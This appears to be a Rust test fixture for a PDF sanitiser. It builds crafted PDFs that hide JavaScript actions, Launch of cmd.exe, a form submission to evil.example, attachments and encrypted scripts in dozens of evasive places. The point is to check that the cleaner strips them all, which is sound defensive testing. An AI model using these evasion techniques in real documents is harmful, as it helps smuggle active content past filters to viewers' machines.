//! Ways to embed scripts or other active content in a PDF, some of which only certain viewers find. None may be in the
//! rewritten file.

use super::make::{PAGE, object_stream, packed, pdf, pdf_of, stream};

const SCRIPT: &str = "/S /JavaScript /JS (app.alert(1))";

/// The page with further entries, and objects from 6 on.
fn page(entries: &str, more: &[&[u8]]) -> Vec<u8> {
    let mut objects: Vec<Vec<u8>> = PAGE.iter().map(|object| object.as_bytes().to_vec()).collect();
    objects[2] = PAGE[2].replace("/Type /Page ", &format!("/Type /Page {entries} ")).into_bytes();
    objects.extend(more.iter().map(|object| object.to_vec()));
    pdf_of(&objects, "")
}

/// The page with further resources, among them a picture of one point.
fn resources(entries: &str, more: &[&[u8]]) -> Vec<u8> {
    let mut objects: Vec<Vec<u8>> = PAGE.iter().map(|object| object.as_bytes().to_vec()).collect();
    objects[2] = PAGE[2].replace("/Resources << ", &format!("/Resources << {entries} ")).into_bytes();
    objects.extend(more.iter().map(|object| object.to_vec()));
    pdf_of(&objects, "")
}

/// An object stream with an unusual first line.
fn odd_stream(entries: &str, keyword: &str, content: &[u8]) -> Vec<u8> {
    let head = format!("<< {entries} /Length {} >>\n{keyword}", content.len());
    [head.as_bytes(), content, b"\nendstream"].concat()
}

/// One file for each way, all of which display the page.
#[expect(clippy::too_many_lines, reason = "a table")]
pub fn ways() -> Vec<(&'static str, Vec<u8>)> {
    let action = |entries: &[u8]| pdf("/OpenAction 6 0 R", &[&[b"<< ", entries, b" >>"].concat()]);
    let hidden = format!("7 0 obj << {SCRIPT} >> endobj");
    let script = format!("<< {SCRIPT} >>");
    let annotation =
        |entries: &str| page(&format!("/Annots [<< /Type /Annot /Rect [9 9 99 99] {entries} >>]"), &[]);
    let inside = packed(format!("7 0 {script}").as_bytes());
    let picture = |entries: &str| {
        stream(
            &format!(
                "/Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 {entries}"
            ),
            b"x",
        )
    };
    let form = |entries: &str| stream(&format!("/Subtype /Form /BBox [0 0 9 9] {entries}"), b"0 0 m");
    let updated = {
        let mut first = pdf("", &[]);
        let start = first.windows(5).position(|five| five == b"\nxref").unwrap() + 1;
        let at = first.len();
        first.extend(
            format!("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {script} >>\nendobj\n").bytes(),
        );
        let table = first.len();
        first.extend(format!("xref\n1 1\n{at:010} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev {start} >>\nstartxref\n{table}\n%%EOF\n").bytes());
        first
    };
    vec![
        ("on opening", action(SCRIPT.as_bytes())),
        ("before printing", pdf(&format!("/AA << /WP {script} >>"), &[])),
        ("by name", pdf("/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", &[script.as_bytes()])),
        ("behind a link", annotation(&format!("/Subtype /Link /A {script}"))),
        ("behind a widget", annotation(&format!("/Subtype /Widget /FT /Btn /AA << /E {script} >>"))),
        (
            "behind a screen",
            annotation(&format!("/Subtype /Screen /A << /S /Rendition {} >>", &SCRIPT[14..])),
        ),
        ("of a page", page(&format!("/AA << /O {script} >>"), &[])),
        (
            "of an outline",
            pdf("/Outlines 6 0 R", &[format!("<< /First << /Title (a) /A {script} >> >>").as_bytes()]),
        ),
        (
            "of a field",
            pdf(&format!("/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K {script} >> >>] >>"), &[]),
        ),
        (
            "the next of an address",
            action(format!("/S /URI /URI (http://evil.example) /Next {script}").as_bytes()),
        ),
        ("packed", pdf("/OpenAction 7 0 R", &[&object_stream(&script)])),
        (
            "packed without a type",
            pdf("/OpenAction 7 0 R", &[&stream("/N 1 /First 4", format!("7 0 {script}").as_bytes())]),
        ),
        (
            "packed behind spaces",
            pdf(
                "/OpenAction 7 0 R",
                &[&odd_stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", "stream   \r\n", &inside)],
            ),
        ),
        (
            "packed behind a comment",
            pdf(
                "/OpenAction 7 0 R",
                &[&odd_stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", "stream %\n", &inside)],
            ),
        ),
        (
            "packed by two settings",
            pdf(
                "/OpenAction 7 0 R",
                &[&stream(
                    "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms null /DP << /Predictor 1 >>",
                    &inside,
                )],
            ),
        ),
        ("in other letters", action(b"/S /J#61vaScript /J#53 (app.alert(1))")),
        ("with a byte that is a space for one reader", action(b"/S /JavaScript\x80 /JS (app.alert(1))")),
        ("with another such byte", action(b"/S /JavaScript\xFF/JS\xFF(app.alert(1))")),
        ("behind a text in false hexadecimal", action(format!("/X <4G> {SCRIPT}").as_bytes())),
        ("behind a keyword in a list", action(format!("/X [1 endobj 2] {SCRIPT}").as_bytes())),
        ("behind an open bracket", action(format!("/X (a\\) b) {SCRIPT}").as_bytes())),
        (
            "with its name elsewhere",
            pdf("/OpenAction << /S 6 0 R /JS 7 0 R >>", &[b"/JavaScript", b"(app.alert(1))"]),
        ),
        (
            "with its text in a stream",
            pdf("/OpenAction << /S /JavaScript /JS 6 0 R >>", &[&stream("", b"app.alert(1)")]),
        ),
        ("that no table names", pdf_of(&PAGE, &format!(">> {hidden} <<"))),
        ("within a text", pdf("", &[format!("({hidden})").as_bytes()])),
        ("within a stream", pdf("", &[&stream("", hidden.as_bytes())])),
        ("within a comment", pdf("", &[format!("null\n% {hidden}\n").as_bytes()])),
        ("of an update", updated),
        ("twice, once harmless", pdf(&format!("/OpenAction [3 0 R /Fit] /OpenAction {script}"), &[])),
        ("among the colors", resources("/ColorSpace << /S /JavaScript /JS (app.alert(1)) >>", &[])),
        (
            "among the colors, elsewhere",
            resources("/ColorSpace << /S 6 0 R /JS 7 0 R >>", &[b"/JavaScript", b"(app.alert(1))"]),
        ),
        ("among the states", resources(&format!("/ExtGState << /G0 << /CA 1 {SCRIPT} >> >>"), &[])),
        ("among the properties", resources(&format!("/Properties << /S /JavaScript /P {script} >>"), &[])),
        (
            "of a picture",
            resources("/XObject << /X 6 0 R >>", &[&picture(&format!("/A {script} /Alternates [{script}]"))]),
        ),
        (
            "of a form",
            resources(
                "/XObject << /X 6 0 R >>",
                &[&form(&format!("/AA << /O {script} >> /Ref << /F (cmd.exe) >>"))],
            ),
        ),
        (
            "of a stamp",
            page(
                "/Annots [<< /Subtype /Stamp /Rect [9 9 99 99] /AP << /N 6 0 R >> /A 7 0 R >>]",
                &[&form(""), script.as_bytes()],
            ),
        ),
        (
            "of a layer",
            pdf(
                &format!("/OCProperties << /OCGs [6 0 R] /D << /Order [] {SCRIPT} >> >>"),
                &[format!("<< /Type /OCG /Name (a) {SCRIPT} >>").as_bytes()],
            ),
        ),
        ("a program", action(b"/S /Launch /F (cmd.exe)")),
        (
            "attachments",
            pdf(
                "/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 6 0 R >> >>] >> >>",
                &[&stream("/Type /EmbeddedFile", b"cmd.exe")],
            ),
        ),
        ("an attachment on a page", annotation("/Subtype /FileAttachment /FS << /EF << >> >>")),
        ("an associated file", pdf("/AF [6 0 R]", &[b"<< /Type /Filespec /EF << /F 7 0 R >> >>"])),
        ("rich media", annotation("/Subtype /RichMedia /RichMediaContent << >>")),
        ("another file", action(b"/S /GoToR /F (cmd.exe)")),
        ("a form that sends", action(b"/S /SubmitForm /F (http://evil.example)")),
        ("a form that loads", action(b"/S /ImportData /F (cmd.exe)")),
        ("a form of its own", pdf("/AcroForm << /XFA 6 0 R >>", &[&stream("", b"<xdp>app.alert(1)")])),
        ("under RC4", include_bytes!("files/script-rc4.pdf").to_vec()),
        ("under AES", include_bytes!("files/script-aes256.pdf").to_vec()),
    ]
}
